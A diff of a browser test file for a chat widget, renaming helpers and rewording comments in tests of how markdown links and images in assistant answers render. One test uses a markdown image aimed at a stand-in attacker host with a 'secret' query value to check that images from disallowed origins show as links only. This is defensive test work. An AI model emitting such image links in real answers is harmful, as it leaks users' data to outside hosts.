@@ -3,8 +3,11 @@ import { cannedService, serveHistory, serveNoHistory } from '../support/chat/can
 import { mount, unmountAll, until, type Chat } from '../support/chat/chat-fixture.ts';
 import { settled } from '../support/chat/page-layout.ts';
 
-/** Opens a chat with that answer. */
-async function said(content: string, attributes: Readonly<Record<string, string>> = {}): Promise<Chat> {
+/** Opens a chat with an answer. */
+async function openWithAnswer(
+  content: string,
+  attributes: Readonly<Record<string, string>> = {},
+): Promise<Chat> {
   serveHistory([{ role: 'assistant', content }]);
   const chat = mount({ 'base-url': cannedService, lang: 'en', ...attributes });
   await chat.open();
@@ -12,7 +15,7 @@ async function said(content: string, attributes: Readonly<Record<string, string>
   return chat;
 }
 
-/** An image of the site's own, which no other test has loaded. */
+/** The URL of an image of the site that no other test has loaded. */
 const map = (name: string): string =>
   `${location.origin}/demo/site/art/shop.svg?${name}-${crypto.randomUUID()}`;
 
@@ -23,14 +26,14 @@ describe('links and images in an answer', () => {
   });
 
   it('say that they open in a new tab', async () => {
-    const chat = await said('See [the table](https://example.com).');
+    const chat = await openWithAnswer('See [the table](https://example.com).');
     const link = chat.find('.markdown a') as HTMLAnchorElement;
     expect([link.target, link.title]).to.deep.equal(['_blank', 'opens in a new tab']);
     expect(link.innerText).to.equal('the table');
   });
 
   it('show images of allowed origins, with alternative text and lazily, and others as links', async () => {
-    const chat = await said(
+    const chat = await openWithAnswer(
       `![A pixel](${location.origin}/pixel.png) ![Another](https://evil.example/collect?secret=1)`,
       { 'allow-images': `nonsense ${location.origin}/` },
     );
@@ -45,7 +48,7 @@ describe('links and images in an answer', () => {
     ]);
     expect(links[0]?.contains(images[0] ?? null), 'the image leads to itself').to.be.true;
     expect(links[1]?.innerText).to.equal('Another');
-    // The image does not exist: its place is kept, with its alternative text.
+    // The image does not exist, so its alternative text shows in its place.
     await until(() => links[0]?.innerText.trim() === 'A pixel', 'the text instead of the image');
     const { width, height } = images[0]?.getBoundingClientRect() as DOMRect;
     expect(
@@ -54,7 +57,7 @@ describe('links and images in an answer', () => {
   });
 
   it('show images within links as links, and never nest links', async () => {
-    const chat = await said(
+    const chat = await openWithAnswer(
       `[![A map](${map('linked')})](https://example.com/a) [![Another](https://evil.example/x)](https://example.com/b)`,
       { 'allow-images': location.origin },
     );
@@ -65,7 +68,7 @@ describe('links and images in an answer', () => {
   });
 
   it('reserve room for an image before it loads, so that nothing moves', async () => {
-    // Far apart: the engine requests the first only when the reader comes near.
+    // Far apart, so that the engine requests the first one only when it is scrolled near.
     const lines = 'A line.\n'.repeat(400);
     serveHistory([
       { role: 'assistant', content: `![A map](${map('above')})\n\n**Below the map.**\n\n${lines}` },
@@ -77,32 +80,35 @@ describe('links and images in an answer', () => {
       images()
         .map(({ offsetWidth, offsetHeight }) => `${offsetWidth} x ${offsetHeight}`)
         .join();
-    const hasCome = (image: HTMLImageElement | undefined): boolean => (image?.naturalWidth ?? 0) > 0;
-    // Called before an image can have loaded.
-    let sizesAtFirst = '';
+    const isLoaded = (image: HTMLImageElement | undefined): boolean => (image?.naturalWidth ?? 0) > 0;
+    // The sizes before any image has loaded.
+    let initialSizes = '';
     await until(() => chat.element.shadowRoot !== null, 'the launcher');
-    const drawings = new MutationObserver(() => {
-      if (sizesAtFirst === '' && images().length === 2 && !images().some(hasCome)) sizesAtFirst = sizes();
+    const observer = new MutationObserver(() => {
+      if (initialSizes === '' && images().length === 2 && !images().some(isLoaded)) initialSizes = sizes();
     });
-    drawings.observe(chat.element.shadowRoot as ShadowRoot, { childList: true, subtree: true });
+    observer.observe(chat.element.shadowRoot as ShadowRoot, { childList: true, subtree: true });
     await chat.open();
-    await until(() => hasCome(images()[1]), 'the image at the end');
-    drawings.disconnect();
+    await until(() => isLoaded(images()[1]), 'the image at the end');
+    observer.disconnect();
     const log = chat.part('message-log');
-    await until(() => log.scrollHeight - log.scrollTop - log.clientHeight < 2, 'the reader to be at the end');
-    expect(sizesAtFirst).to.match(/^\d{3} x \d{3},\d{3} x \d{3}$/);
-    expect(sizes()).to.equal(sizesAtFirst);
+    await until(
+      () => log.scrollHeight - log.scrollTop - log.clientHeight < 2,
+      'the log to scroll to its end',
+    );
+    expect(initialSizes).to.match(/^\d{3} x \d{3},\d{3} x \d{3}$/);
+    expect(sizes()).to.equal(initialSizes);
 
-    // Other movements while the chat opens.
-    await until(() => chat.find('.follows') !== null, 'the messages to stand together');
+    // Waits for other layout changes while the chat opens.
+    await until(() => chat.find('.follows') !== null, 'the messages to be grouped');
     await settled(chat);
     const { scrollHeight } = log;
     const read = chat.find('.markdown strong') as HTMLElement;
     read.scrollIntoView({ block: 'start' });
-    const place = read.getBoundingClientRect().top;
-    await until(() => hasCome(images()[0]), 'the image above the reader');
-    expect(Math.abs(read.getBoundingClientRect().top - place)).to.be.below(1);
-    expect([sizes(), log.scrollHeight]).to.deep.equal([sizesAtFirst, scrollHeight]);
+    const position = read.getBoundingClientRect().top;
+    await until(() => isLoaded(images()[0]), 'the image above the viewport');
+    expect(Math.abs(read.getBoundingClientRect().top - position)).to.be.below(1);
+    expect([sizes(), log.scrollHeight]).to.deep.equal([initialSizes, scrollHeight]);
     expect(log.scrollWidth).to.equal(log.clientWidth);
   });
 });
